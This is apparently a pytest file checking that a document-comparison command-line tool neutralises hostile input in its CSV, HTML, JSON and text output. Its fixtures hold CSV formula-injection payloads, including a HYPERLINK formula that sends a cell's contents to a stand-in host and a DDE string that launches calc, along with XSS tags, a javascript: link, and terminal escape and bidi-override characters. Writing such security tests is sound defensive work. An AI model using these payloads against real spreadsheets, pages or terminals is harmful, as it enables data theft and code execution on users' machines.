"""Files that attack whoever prints, pastes or opens what the command line makes of them, through the real program."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest

from parallax.worker.process import child_environment

FORMULA = '=HYPERLINK("https://away.example/?"&A1,"Bridge")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
TURNED = "\u202egnihton\u202c"
BODY = (
    f"{FORMULA}, said Maud Tellery, who runs 12 ferries at Ostwick.",
    "\uff1d1+1 was on the wall; the county's engineer said that 12 people had seen it.",
    f'The footbridge will stay closed for 12 weeks;=1+1;"{COMMAND}", the county said on Tuesday.',
    f"“-2+3 {TURNED} is no answer,” said <img src=x onerror=alert(1)> Maud Tellery, who is 30, and left.",
    "A </style></title><script>alert(1)</script> stood on 30 posters, said Tom Asher.",
)
HOSTILE = "".join(f"<p>{line.replace('&', '&amp;').replace('<', '&lt;')}</p>" for line in BODY)
PAGE = f"""<html><head><title>=2+5 &#x1b;[2J Bridge &lt;script&gt;</title>
<meta property="og:site_name" content="+cmd|' /C calc'!A0 &#x9b;31m &lt;img src=//away.example&gt;">
<meta name="author" content="@A1 &#27;]0;owned&#7; &quot;onload=&quot;x">
<meta property="article:published_time" content="=1+1">
<link rel="canonical" href="javascript:alert(1)"></head>
<body><nav>=9+9 Home &lt;script&gt;</nav><h1>=2+5 Bridge &lt;script&gt;</h1>
<article>{HOSTILE}</article></body></html>"""
PLAIN = "\n\n".join((f"{COMMAND} bridge", *BODY)).replace("12", "14").replace("30", "31")
NAME = "=cmd|' C calc'!A0.txt"
TABLES = ("differences", "statements", "speakers", "names")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """What the command line prints, by format; of the tables each under its name."""
    folder = tmp_path_factory.mktemp("hostile")
    files = [folder / NAME, folder / "-\x1b[31mred\u202e.html"]
    files[0].write_text(PLAIN, encoding="utf-8")
    files[1].write_text(PAGE, encoding="utf-8")
    asked = {form: ("--format", form) for form in ("text", "html", "json")}
    asked |= {table: ("--relation", "versions", "--format", "csv", "--table", table) for table in TABLES}
    # One process for all: it is the loading of the language model that takes long.
    lines = [["compare", *map(str, files), *options, "-o", str(folder / name)] for name, options in asked.items()]
    code = f"from parallax.commands import main; assert not any([main(line) for line in {lines!r}])"
    done = subprocess.run(
        [sys.executable, "-P", "-c", code], capture_output=True, env=child_environment(), timeout=180, check=False
    )
    assert (done.returncode, done.stdout, done.stderr) == (0, b"", b"")
    return {name: (folder / name).read_text(encoding="utf-8") for name in asked}


def formula(cell: str) -> bool:
    seen = cell.lstrip(" \t\r\n\"'") if not cell.startswith("'") else ""
    return bool(seen) and unicodedata.normalize("NFKC", seen)[0] in "=+-@"


@pytest.mark.parametrize("table", TABLES)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_is_a_formula_at_whatever_a_spreadsheet_begins_a_cell(
    made: dict[str, str], table: str, separator: str
) -> None:
    lines = list(csv.reader(io.StringIO(made[table], newline=""), delimiter=separator))
    assert len(lines) > 1
    assert [cell for line in lines for cell in line if formula(cell)] == []


def test_the_hostile_words_do_reach_the_tables(made: dict[str, str]) -> None:
    cells = [cell for line in csv.reader(io.StringIO(made["differences"])) for cell in line]
    for words in (FORMULA, ";'=1+1", COMMAND):
        assert any(words in cell for cell in cells), words


@pytest.mark.parametrize("form", ["text", "html", "json", *TABLES])
def test_nothing_that_is_printed_steers_a_terminal_or_turns_a_line(made: dict[str, str], form: str) -> None:
    odd = {c for c in made[form] if unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp") and c != "\n"}
    assert odd | (set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") & set(made[form])) == set()


def test_the_page_holds_the_words_and_none_of_the_markup(made: dict[str, str]) -> None:
    page = made["html"]
    tags = {tag.lower() for tag in re.findall(r"<\s*/?\s*([a-zA-Z]+)", page)}
    assert not tags & {"script", "img", "iframe", "object", "embed", "base", "form", "link", "svg"}
    assert page.count("<style>") == page.count("</style>") == page.count("<title>") == 1
    assert set(re.findall(r'<[^>]*\s(?:href|src)="([^"#]*)', page)) <= {""}
    assert not re.search(r"<[^>]*\son\w+\s*=", page)
    assert page.index("Content-Security-Policy") < page.index("<title>")
    assert "&lt;script&gt;" in page
    assert "content=\"default-src 'none';" in page


def test_an_error_is_one_line_that_steers_nothing(tmp_path: Path) -> None:
    path = tmp_path / "no \x1b[2J\u202e file.txt"
    command = [sys.executable, "-P", "-m", "parallax", "compare", str(path)]
    done = subprocess.run(command, capture_output=True, env=child_environment(), timeout=60, check=False)
    said = done.stderr.decode("utf-8")
    assert done.returncode == 2 and said.count("\n") == 1
    assert not {c for c in said if not c.isprintable()} - {"\n"}
